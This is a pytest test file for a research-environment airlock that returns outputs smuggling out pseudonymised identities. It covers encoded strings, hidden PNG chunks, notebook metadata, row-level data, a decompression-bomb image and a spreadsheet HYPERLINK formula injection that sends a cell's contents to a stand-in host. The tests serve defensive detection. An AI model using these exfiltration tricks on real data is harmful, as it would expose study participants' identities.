"""How people might be carried out in a file that looks harmless."""

import base64
import gzip
import io
import json
import random
import struct
import zlib

import pytest
from PIL import Image, PngImagePlugin

from airlock.states import State
from tests.airlock.conftest import home  # noqa: F401 -- a fixture
from tests.airlock.house import IDENTIFIER, SAFE
from tre.data import named
from tre.data.deid import pseudonyms


def returned(home, files, check):  # noqa: F811
    """The request goes back, because of `check`, and no finding quotes what it found."""
    request = home.submit(files)
    home.check(request)
    assert home.state(request) is State.RETURNED
    found = home.findings(request)
    assert check in {name for name, severity, *_ in found if severity == "block"}, found
    said = " ".join(" ".join(finding) for finding in found)
    assert not any(secret in said for secret in (*home.pseudonyms, IDENTIFIER))
    return found


def csv(cell: str) -> bytes:
    return f'group,note,n\na,"{cell}",30\nb,none,30\n'.encode()


@pytest.mark.parametrize(
    "wrap",
    [
        lambda p: p,
        lambda p: p.lower(),
        lambda p: base64.b64encode(p.encode()).decode(),
        lambda p: p.encode().hex(),
        lambda p: base64.b64encode(gzip.compress(p.encode())).decode(),
        lambda p: base64.b64encode(p.encode("utf-16")).decode(),
        lambda p: p.removeprefix("tre1-"),
        "-".join,
    ],
    ids=["plain", "lower", "base64", "hex", "gzip+base64", "utf16+base64", "no prefix", "dashes"],
)
def test_a_pseudonym_wrapped_in_a_csv(home, wrap):  # noqa: F811
    returned(home, {"t.csv": csv(wrap(home.pseudonyms[7]))}, "leaks")


def test_pseudonyms_in_a_csv_written_as_utf_16(home):  # noqa: F811
    from tre.errors import Refused

    with pytest.raises(Refused) as refused:
        home.submit({"t.csv": csv(home.pseudonyms[0]).decode().encode("utf-16")})
    assert refused.value.rules == ("R20",)


def test_an_identifier_of_the_source(home):  # noqa: F811
    returned(home, {"t.csv": csv(IDENTIFIER)}, "leaks")
    returned(home, {"t.md": f"# Result\n\nSee {IDENTIFIER}.\n".encode()}, "leaks")


def test_a_pseudonym_in_a_files_name(home):  # noqa: F811
    returned(home, {f"{home.pseudonyms[3]}.csv": SAFE}, "leaks")


def notebook(**cell) -> dict:
    return {
        "cells": [
            {
                "cell_type": "code",
                "id": "a",
                "metadata": {},
                "source": "1",
                "outputs": [],
                "execution_count": None,
                **cell,
            }
        ],
        "metadata": {},
        "nbformat": 4,
        "nbformat_minor": 5,
    }


def test_a_notebook_of_code_alone_passes(home):  # noqa: F811
    request = home.submit({"n.ipynb": json.dumps(notebook()).encode()})
    home.check(request)
    assert home.state(request) is State.IN_REVIEW


@pytest.mark.parametrize("hide", ["outputs", "metadata", "source", "top", "attachments"])
def test_pseudonyms_in_a_notebook(home, hide):  # noqa: F811
    secret = base64.b64encode(home.pseudonyms[1].encode()).decode()
    book = {
        "outputs": notebook(outputs=[{"output_type": "stream", "name": "stdout", "text": secret}]),
        "metadata": notebook(metadata={"x": secret}),
        "source": notebook(source=f"x = '{secret}'"),
        "top": notebook() | {"metadata": {"x": secret}},
        "attachments": notebook(attachments={"a.png": {"image/png": secret}}),
    }[hide]
    found = returned(home, {"n.ipynb": json.dumps(book).encode()}, "leaks")
    assert hide == "source" or "notebook" in {name for name, *_ in found}


def png(**text) -> bytes:
    about = PngImagePlugin.PngInfo()
    for key, value in text.items():
        about.add_text(key, value)
    out = io.BytesIO()
    Image.new("RGB", (20, 10), "white").save(out, "PNG", pnginfo=about)
    return out.getvalue()


def with_part(name: bytes, body: bytes) -> bytes:
    part = struct.pack(">I", len(body)) + name + body + struct.pack(">I", zlib.crc32(name + body))
    return png()[:33] + part + png()[33:]


def behind_the_rows(extra: bytes) -> bytes:
    rows = b"".join(b"\x00" + b"\xff" * 60 for _ in range(10))
    packed = zlib.compress(rows + extra)
    head, end = png()[:33], png()[-12:]
    return (
        head + struct.pack(">I", len(packed)) + b"IDAT" + packed + struct.pack(">I", zlib.crc32(b"IDAT" + packed)) + end
    )


def test_a_picture_of_pixels_passes(home):  # noqa: F811
    drawn = png(Software="Matplotlib version3.10.8, https://matplotlib.org/")
    request = home.submit({"p.png": drawn, "q.png": png(), "numbers.csv": SAFE})
    home.check(request)
    assert set(home.files(request).values()) == {"open"}, home.findings(request)


def test_the_pixels_of_a_picture_are_not_read_as_writing():
    """Flat colours, soft edges and noise, as a real plot has; but a name that is written in pixels is found."""
    draw, wide = random.Random(1), 1200
    flat = bytes(draw.choice(b"\0\x32\x61\xff") for _ in range(40)) * (wide // 40)
    rows = [flat, bytes(wide), bytes(draw.randbytes(wide)), bytes(value % 128 for value in range(wide))] * 200
    known = named.Known((("sunrise", b"k" * 32),), (), "sunrise")
    assert named.leaks(zlib.compress(b"".join(rows)), known) == ()
    name = pseudonyms.pseudonym("somebody", b"k" * 32).encode()
    rows[300] = base64.b64encode(b"a note for " + name) + rows[300]
    assert {leak.kind for leak in named.leaks(zlib.compress(b"".join(rows)), known)} == {"pseudonym"}


@pytest.mark.parametrize(
    "picture",
    [
        png(Comment="row,1,2,3"),
        png(Software="Matplotlib version3.10.8, https://matplotlib.org/ and 300 rows"),
        png() + b"PK\x03\x04 a zip",
        png() + SAFE,
        with_part(b"zTXt", b"a\x00\x00" + zlib.compress(SAFE)),
        with_part(b"eXIf", SAFE),
        with_part(b"prVt", SAFE),
        behind_the_rows(SAFE),
        png()[:40],
        b"\x89PNG\r\n\x1a\n",
    ],
    ids=[
        "comment",
        "long software",
        "zip behind",
        "csv behind",
        "ztxt",
        "exif",
        "private",
        "behind rows",
        "cut",
        "head",
    ],
)
def test_a_picture_that_carries_more_than_pixels(home, picture):  # noqa: F811
    returned(home, {"p.png": picture}, "picture")


def test_a_bomb_of_a_picture_is_refused_quickly(home):  # noqa: F811
    head = struct.pack(">IIBBBBB", 100_000, 100_000, 8, 2, 0, 0, 0)
    packed = zlib.compress(b"\x00" * 50_000_000)
    parts = [
        struct.pack(">I", len(body)) + name + body + struct.pack(">I", zlib.crc32(name + body))
        for name, body in ((b"IHDR", head), (b"IDAT", packed), (b"IEND", b""))
    ]
    returned(home, {"p.png": b"\x89PNG\r\n\x1a\n" + b"".join(parts)}, "picture")


def test_twenty_rows_of_one_person_counted_as_twenty(home):  # noqa: F811
    found = returned(home, {"t.csv": b"arm,n\na,60\nb,60\nrare,20\n"}, "small_counts")
    assert any("persons" in message for *_, message in found)


def test_rows_of_people(home):  # noqa: F811
    rows = "".join(f"{n % 2},{'ab'[n // 30]},{20 + n}\n" for n in range(60))
    returned(home, {"t.csv": f"sex,arm,age\n{rows}".encode()}, "row_level")


def test_rows_of_people_under_other_names(home):  # noqa: F811
    rows = "".join(f"{n % 2},{'ab'[n // 30]},{20 + n}\n" for n in range(60))
    returned(home, {"t.csv": f"x,y,z\n{rows}".encode()}, "row_level")


def test_rows_of_people_as_json(home):  # noqa: F811
    rows = [{"sex": n % 2, "arm": "ab"[n // 30], "age": 20 + n} for n in range(60)]
    returned(home, {"t.json": json.dumps(rows).encode()}, "row_level")
    columns = {key: [row[key] for row in rows] for key in rows[0]}
    returned(home, {"t.json": json.dumps({"result": columns}).encode()}, "row_level")


@pytest.mark.parametrize(("name", "between"), [("t.txt", ","), ("t.md", " | "), ("t.txt", "\t"), ("t.txt", "  ")])
def test_rows_of_people_under_the_name_of_a_text(home, name, between):  # noqa: F811
    rows = [("sex", "arm", "age"), *((str(n % 2), "ab"[n // 30], str(20 + n)) for n in range(60))]
    returned(home, {name: "\n".join(between.join(row) for row in rows).encode()}, "row_level")


def test_rows_of_people_in_a_notebooks_markdown(home):  # noqa: F811
    rows = "\n".join(["sex,arm,age", *(f"{n % 2},{'ab'[n // 30]},{20 + n}" for n in range(60))])
    book = notebook()
    book["cells"] = [{"cell_type": "markdown", "id": "a", "metadata": {}, "source": rows}]
    returned(home, {"n.ipynb": json.dumps(book).encode()}, "row_level")


def test_a_table_with_other_separators(home):  # noqa: F811
    returned(home, {"t.csv": b"sex;n\n0;3\n1;30\n"}, "plain_table")


def test_a_small_count_alone_in_json(home):  # noqa: F811
    returned(home, {"t.json": b'{"arm": "a", "n_deaths": 3}'}, "small_counts")


def test_a_small_count_in_a_cross_table(home):  # noqa: F811
    returned(home, {"t.csv": b"arm,0,1,All\na,15,15,30\nb,27,3,30\n"}, "small_counts")


def test_a_formula_that_runs_when_the_file_is_opened(home):  # noqa: F811
    returned(home, {"t.csv": b'group,n\n"=HYPERLINK(""http://x/""&A1)",30\nb,30\n'}, "formulas")


def test_an_aggregate_that_is_right_passes(home):  # noqa: F811
    files = {
        "arms.csv": b"arm,sex,n,mean_age\na,0,15,34.0\na,1,15,35.0\nb,0,15,64.0\nb,1,15,65.0\n",
        "model.json": json.dumps({"coef": {"age": 0.021, "sex": -0.4}, "n": 60}).encode(),
        "notes.md": b"# Hazard ratios\n\nNo difference between arms.\n",
    }
    request = home.submit(files)
    home.check(request)
    assert home.state(request) is State.IN_REVIEW, home.findings(request)
